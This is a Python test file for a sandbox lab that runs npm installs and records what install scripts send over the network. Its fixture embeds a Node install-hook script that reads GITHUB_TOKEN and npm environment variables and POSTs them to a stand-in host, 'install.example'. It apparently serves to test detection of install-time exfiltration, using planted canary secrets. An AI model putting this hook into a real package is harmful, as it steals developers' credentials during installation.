"""What an installation runs, and what is seen of it."""

import json
import os
import shutil
from pathlib import Path

import pytest
from stage import ACT, lab_or_skip, make_profile, make_scenario, make_trial

from undeclared.lab import Lab, Target, has_scripts, install
from undeclared.lab.install import Installing, NotInstallableError, client
from undeclared.lab.launch import Launch
from undeclared.lab.world import Folders
from undeclared.model import HttpFlow, Outcome, Phase

SCRIPT = """
const fs = require('node:fs')
const http = require('node:http')
const [event] = process.argv.slice(2)
const name = process.env.npm_package_name
if (process.env.ACT === 'fail' && name === 'tool') {
  console.error('Error: no such luck')
  process.exit(3)
}
fs.appendFileSync(process.env.INIT_CWD + '/order', `${name} ${event}\\n`)
const said = {
  order: fs.readFileSync(process.env.INIT_CWD + '/order', 'utf8'),
  cwd: process.cwd(),
  env: Object.fromEntries(Object.entries(process.env).filter(([key]) => /^npm_|^INIT/.test(key))),
  linked: fs.existsSync('/opt/agent/node_modules/.bin/tool'),
  token: process.env.GITHUB_TOKEN,
}
const body = JSON.stringify(said)
const method = 'POST'
const headers = { 'content-length': Buffer.byteLength(body) }
const request = http.request({ host: `${event}.install.example`, method, headers }, (answer) => {
  answer.resume()
})
request.end(body)
"""


def package(root, manifest, *, place="", **files):
    folder = root / place
    folder.mkdir(parents=True, exist_ok=True)
    text = manifest if isinstance(manifest, str) else json.dumps(manifest)
    (folder / "package.json").write_text(text)
    for name, content in files.items():
        (folder / name.replace("_", ".")).write_text(content)


def scripts(*events):
    return {event: f"node script.cjs {event}" for event in events}


@pytest.fixture(scope="module")
def root(tmp_path_factory):
    root = tmp_path_factory.mktemp("install")
    tool = {
        "name": "tool",
        "version": "1.2.3",
        "bin": "script.cjs",
        "dependencies": {"@a/dep": "*"},
    }
    package(
        root,
        {**tool, "scripts": {**scripts("preinstall", "postinstall"), "prepare": "exit 1"}},
        place="node_modules/tool",
        script_cjs=SCRIPT,
    )
    package(
        root,
        {"name": "@a/dep", "version": "1.0.0", "scripts": scripts("install")},
        place="node_modules/tool/node_modules/@a/dep",
        script_cjs=SCRIPT,
    )
    package(root, {"name": "plain", "version": "1.0.0"}, place="node_modules/plain")
    return root


@pytest.fixture(scope="module")
def runs(root):
    if shutil.which("npm") is None:
        assert os.environ.get("CI") != "true", "a machine that tests the lab has npm"
        pytest.skip("npm is not on this machine")
    before = sorted((str(file), file.stat().st_mtime_ns) for file in root.rglob("*"))
    target = Target(profile=make_profile(), root=root, program=None)
    trials = [
        make_trial(act=act).model_copy(update={"phase": Phase.INSTALL})
        for act in ("unset", "fail", "again")
    ]
    with lab_or_skip(Lab(target, make_scenario(), {"act": ACT}, jobs=1)) as lab:
        done = {run.environment["act"]: run for run in lab.run(trials)}
    assert sorted((str(file), file.stat().st_mtime_ns) for file in root.rglob("*")) == before
    return done


def told(run):
    return [
        json.loads(flow.request.body)
        for flow in run.flows
        if isinstance(flow, HttpFlow) and flow.request.host.endswith("install.example")
    ]


@pytest.mark.lab
def test_scripts_run_in_npms_order_on_a_fresh_copy(runs) -> None:
    for act in ("unset", "again"):
        run = runs[act]
        assert (run.outcome, run.exit_status) == (Outcome.COMPLETED, 0), run.reason
        order = told(run)[-1]["order"].splitlines()
        assert order == ["tool preinstall", "@a/dep install", "tool postinstall"]
        assert [said["linked"] for said in told(run)] == [False, True, True]


@pytest.mark.lab
def test_only_what_scripts_send_is_seen(runs) -> None:
    hosts = {flow.request.host for flow in runs["unset"].flows if isinstance(flow, HttpFlow)}
    names = {f"{event}.install.example" for event in ("preinstall", "install", "postinstall")}
    assert hosts == names
    assert {flow.name for flow in runs["unset"].flows if flow.kind == "dns"} == names


@pytest.mark.lab
def test_scripts_see_an_ordinary_installation(runs) -> None:
    first, dep, last = told(runs["unset"])
    assert last["cwd"] == "/opt/agent/node_modules/tool"
    assert dep["cwd"] == "/opt/agent/node_modules/tool/node_modules/@a/dep"
    env = last["env"]
    assert env["INIT_CWD"] == "/opt/agent"
    assert env["npm_command"] == "install"
    assert env["npm_lifecycle_event"] == "postinstall"
    assert env["npm_package_version"] == "1.2.3"
    assert env["npm_config_user_agent"].startswith("npm/")
    assert env["npm_execpath"].endswith("npm-cli.js")
    unusual = {"offline", "foreground", "audit", "fund", "notifier", "dangerously", "ignore"}
    assert not [name for name in env if any(word in name for word in unusual)]
    assert first["env"]["npm_config_local_prefix"] == "/opt/agent"


@pytest.mark.lab
def test_secrets_are_planted_for_an_installation_too(runs) -> None:
    planted = {canary.id: canary.value for canary in runs["unset"].canaries}
    assert told(runs["unset"])[0]["token"] == planted["env-github-token"]


@pytest.mark.lab
def test_a_script_that_fails_is_the_packages_failure(runs) -> None:
    run = runs["fail"]
    assert run.outcome is Outcome.AGENT_FAILED
    assert run.reason == "exited with status 3: Error: no such luck"
    assert told(run) == []


def test_what_would_run_is_told_without_running_it(root, tmp_path) -> None:
    assert has_scripts(root) == ("tool: preinstall", "tool: postinstall", "@a/dep: install")
    assert has_scripts(tmp_path) == ()
    package(tmp_path, {"name": "own", "scripts": {"test": "x", "postinstall": "x"}})
    package(tmp_path, {"name": "gyp"}, place="node_modules/gyp", binding_gyp="{}")
    package(tmp_path, {"gypfile": False}, place="node_modules/not", binding_gyp="{}")
    package(
        tmp_path,
        {"name": "both", "scripts": {"preinstall": "x"}},
        place="node_modules/both",
        binding_gyp="{}",
    )
    package(tmp_path, "[" * 100_000, place="node_modules/hostile")
    package(tmp_path, {"scripts": [], "name": 3}, place="node_modules/odd", binding_gyp="{}")
    (tmp_path / "node_modules" / "loop").symlink_to(tmp_path)
    assert has_scripts(tmp_path) == (
        "own: postinstall", "both: preinstall", "gyp: install", "3: install",
    )  # fmt: skip


def test_a_world_without_npm_is_said_to_be_one(tmp_path) -> None:
    with pytest.raises(NotInstallableError, match="npm is not in the agent's world"):
        client([(tmp_path, "/usr")])
    file = tmp_path / "lib/node_modules/npm/bin/npm-cli.js"
    file.parent.mkdir(parents=True)
    file.touch()
    assert client([(tmp_path, "/opt/node")]) == "/opt/node/lib/node_modules/npm/bin/npm-cli.js"


def test_where_there_are_no_overlays_the_files_are_copied(root, tmp_path, monkeypatch) -> None:
    monkeypatch.setattr(Installing, "_mount", lambda *_: False)
    folders = Folders(
        **{part: tmp_path / part for part in ("home", "repository", "tmp", "shm", "etc")}, binds=()
    )
    launch = Launch(folders, ["--remount-ro", "/", "--chdir", "/home"], {}, ["agent"], b"prompt")
    with Installing(launch, "/usr/npm-cli.js", root, tmp_path / "run"):
        *before, place, inside = launch.sandbox
        copy = Path(place)
        assert (copy / "node_modules/tool/script.cjs").read_text() == SCRIPT
        wanted = json.loads((copy / "package.json").read_text())
        assert wanted == {"dependencies": {"tool": "1.2.3", "plain": "1.0.0"}}
        assert before == ["--remount-ro", "/", "--chdir", "/opt/agent", "--bind"]
        assert inside == "/opt/agent"
        assert (launch.command[0], launch.command[-1]) == ("node", "/usr/npm-cli.js")
        assert launch.stdin is None
    assert not (root / "package.json").exists()
    monkeypatch.setattr(install, "COPIED", 10)
    with pytest.raises(NotInstallableError, match="too much to be copied"):
        Installing(launch, "/usr/npm-cli.js", root, tmp_path / "again").__enter__()
